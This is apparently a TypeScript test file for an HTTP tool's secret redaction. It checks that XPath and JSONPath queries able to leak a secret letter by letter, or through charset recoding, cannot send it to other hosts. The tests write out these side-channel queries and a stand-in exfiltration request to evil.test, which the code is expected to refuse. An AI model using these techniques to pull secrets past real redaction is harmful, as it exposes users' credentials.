import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { decidingBody, loadQueryLanguages, selectFromExchange } from "../../../src/resolve/query/index.ts";
import type { KnownExchange } from "../../../src/resolve/values/sources.ts";
import { createRedactor } from "../../../src/secrets/index.ts";
import { type Given, prepared, refused } from "./given.ts";

await loadQueryLanguages();

const secret = "Zq7s3cret42";
const letters = [..."Zqs7"];

interface Bodies {
  readonly request?: string;
  readonly response?: string;
  readonly contentType?: string;
}

function exchanged({ request = "", response = "{}", contentType = "application/json" }: Bodies): KnownExchange {
  const redactor = createRedactor();
  redactor.add("TOKEN", secret);
  const headers = [["Content-Type", contentType]] as const;
  return {
    redactor,
    request: { method: "POST", url: "https://api.test/", headers, body: Buffer.from(request) },
    response: { status: 200, headers, body: Buffer.from(response) },
  };
}

function given(bodies: Bodies): Given {
  return {
    settings: { "padlock.secrets": { TOKEN: ["api.test"] } },
    sources: { exchange: () => exchanged(bodies), requestNames: ["a"] },
  };
}

const xml = `<r><x>${secret}</x>${letters.map((letter) => `<c>${letter}</c>`).join("")}</r>`;
const json = JSON.stringify({ x: secret, c: letters.map((letter) => ({ p: `${letter}.*`, v: letter })), id: "17" });

describe("a part of an exchange that a secret selects", () => {
  const attacks: readonly (readonly [title: string, bodies: Bodies, reference: string])[] = [
    ["a letter that an XPath compares", { request: xml }, "a.request.body.//c[. = substring(//x, 1, 1)]"],
    ["a letter that a JSONPath matches", { request: json }, "a.request.body.$.c[?match($.x, @.p)].v"],
    ["the same in what a server sends back", { response: json }, "a.response.body.$.c[?match($.x, @.p)].v"],
    ["a count in what a server sends back", { response: xml }, "a.response.body.//c[string-length(//x) > 3]"],
    ["a name that is a guess", { request: `{"${secret}":"yes"}` }, `a.request.body.$.${secret}`],
    [
      "text that a charset turns into other signs",
      { request: `${secret}.`, contentType: "text/plain; charset=utf-16be" },
      "a.request.body.*",
    ],
    [
      "the same in what a server sends back",
      { response: `${secret}.`, contentType: "text/plain; charset=utf-16be" },
      "a.response.body",
    ],
  ];
  for (const [title, bodies, reference] of attacks) {
    it(`is bound to its hosts: ${title}`, async () => {
      const selected = selectFromExchange(exchanged(bodies), reference.slice("a.".length));
      assert.ok(selected.ok, selected.ok ? "" : selected.error.detail);
      assert.ok(!selected.value.includes(secret));
      const failure = await refused(`GET https://evil.test/\nA: {{${reference}}}`, given(bodies));
      assert.equal(failure.code, "policy.secret-not-allowed");
      const allowed = await prepared(`POST https://api.test/\n\n{{${reference}}}`, given(bodies));
      assert.deepEqual(allowed.secretNames, ["TOKEN"]);
    });
  }

  it("is not bound where only its place selects it", async () => {
    for (const [reference, bodies] of [
      ["a.response.body.$.id", { response: json }],
      ["a.response.body.id", { response: json }],
      ["a.response.body.$..c[0]['v']", { response: json }],
      ["a.response.body./r/c[1]", { response: xml, contentType: "text/xml; charset=ISO-8859-1" }],
      ["a.request.body.$.c[0].v", { request: '{"c":[{"v":1}]}' }],
    ] as const) {
      const request = await prepared(`GET https://elsewhere.test/\nA: {{${reference}}}`, given(bodies));
      assert.deepEqual(request.secretNames, [], reference);
    }
  });
});

describe("decidingBody", () => {
  const exchange = exchanged({});
  it("is none for names, indices and wildcards", () => {
    for (const path of [
      "",
      "*",
      "$",
      "$.a",
      "a-b.c",
      "[0].id",
      "$[-1]",
      "$..a[*].b",
      '$["a b"]',
      "/a/b[2]/@id",
      "//x:y/text()",
    ]) {
      assert.equal(decidingBody(exchange, `response.body.${path}`), undefined, path);
    }
  });

  it("is the body for everything that looks at values", () => {
    for (const path of [
      "$[?@.a]",
      "$.a[?(@.b==1)]",
      "//a[@id='1']",
      "//a[b]",
      "/a = 1",
      "//a | //b",
      "$['a\\u0062']",
    ]) {
      assert.equal(decidingBody(exchange, `response.body.${path}`), exchange.response.body, path);
    }
  });

  it("is found in linear time", () => {
    const start = performance.now();
    for (const path of ["a".repeat(50_000), "$".padEnd(50_000, ".a"), "/a".repeat(25_000), "a.".repeat(25_000)]) {
      decidingBody(exchange, `response.body.${path}!`);
    }
    assert.ok(performance.now() - start < 1000);
  });
});

describe("a query that takes long", () => {
  it("ends after the time that the request has left for it", () => {
    const response = JSON.stringify({ x: `${"a".repeat(40)}!` });
    const start = performance.now();
    const selected = selectFromExchange(exchanged({ response }), "response.body.$[?search(@, '(a|a)*c')]", 50);
    assert.match(selected.ok ? "" : selected.error.detail, /takes too long/);
    assert.ok(performance.now() - start < 1500);
  });
});
